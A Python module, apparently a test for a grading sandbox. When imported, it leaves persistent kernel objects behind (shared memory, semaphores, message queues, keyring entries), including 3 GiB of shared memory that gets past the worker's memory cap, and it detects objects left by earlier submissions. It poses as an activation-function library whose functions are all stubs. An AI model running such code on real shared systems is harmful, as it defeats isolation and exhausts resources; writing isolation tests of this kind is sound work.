"""Reuse attack: leave kernel objects behind (SysV shm/sem/msg, POSIX queue, keyring) and find earlier ones.

``left()`` and ``found()`` (as lists of code points) say what this worker created and what it found from an
earlier submission; the shared-memory segments hold SHM_MIB MiB each, beyond the worker's memory cap.
"""

import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
KEY = 0x4AC7
IPC_CREAT = 0o1000
SHM_MIB = 1024  # three segments: 3 GiB, beyond a 1 GiB cap
SHM_BYTES = SHM_MIB << 20
QUEUE = b"/activation-lab-left-behind"
LEFT = []
FOUND = []


def _look():
    if _libc.shmget(KEY, 0, 0o600) >= 0:
        FOUND.append("shm")
    if _libc.semget(KEY, 0, 0o600) >= 0:
        FOUND.append("sem")
    if _libc.msgget(KEY, 0o600) >= 0:
        FOUND.append("msg")
    try:
        queue = _libc.mq_open(QUEUE, os.O_RDONLY)
    except AttributeError:
        queue = -1
    if queue >= 0:
        FOUND.append("mqueue")
    if _libc.syscall(249, b"user", b"activation-lab-left-behind", None, 0) >= 0:  # request_key
        FOUND.append("keyring")


def _leave():
    for index in range(3):
        segment = _libc.shmget(KEY + index, SHM_BYTES, IPC_CREAT | 0o600)
        if segment < 0:
            continue
        LEFT.append("shm")
        address = _libc.shmat(segment, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, SHM_BYTES)  # touch every page: real memory, held after we die
            _libc.shmdt(address)
    if _libc.semget(KEY, 1, IPC_CREAT | 0o600) >= 0:
        LEFT.append("sem")
    if _libc.msgget(KEY, IPC_CREAT | 0o600) >= 0:
        LEFT.append("msg")
    try:
        if _libc.mq_open(QUEUE, os.O_CREAT | os.O_RDWR, 0o600, None) >= 0:
            LEFT.append("mqueue")
    except AttributeError:
        pass
    if _libc.syscall(248, b"user", b"activation-lab-left-behind", b"x", 1, -4) >= 0:  # add_key, user keyring
        LEFT.append("keyring")


_look()
_leave()


def left(x):
    return [[ord(c) for c in name] for name in LEFT]


def found(x):
    return [[ord(c) for c in name] for name in FOUND]


def step(x):
    return None


sigmoid = sigmoid_grad = tanh = tanh_grad = relu = relu_grad = activate = C2F = bipolar_step = step
